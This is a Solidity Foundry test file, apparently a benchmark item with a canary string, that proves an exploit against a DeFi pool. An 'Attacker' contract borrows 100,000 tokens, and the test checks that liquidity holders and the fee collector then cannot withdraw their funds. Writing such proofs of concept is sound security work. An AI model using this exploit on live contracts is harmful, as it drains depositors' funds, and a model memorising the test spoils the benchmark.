// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker is Borrower {}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        grain.mint(address(other), 400e18);
    }

    /// Everybody takes everything out of the pool, and the collector its part.
    function empties() public {
        vm.prank(DEE);
        farm.unstake(3);
        for (uint256 id = 1; id <= 3; id++) {
            address owner = notes.ownerOf(id);
            vm.startPrank(owner);
            notes.decrease(id, notes.noteOf(id).liquidity, 0, 0, block.timestamp);
            notes.collect(id, owner, MAX, MAX);
            vm.stopPrank();
        }
        address[] memory pools = new address[](1);
        pools[0] = address(main);
        collector.gather(pools);
    }

    function exploit() public {
        other.borrow(main, 100_000e18, 0);
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.empties, ()));
        require(!done, "all is there");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
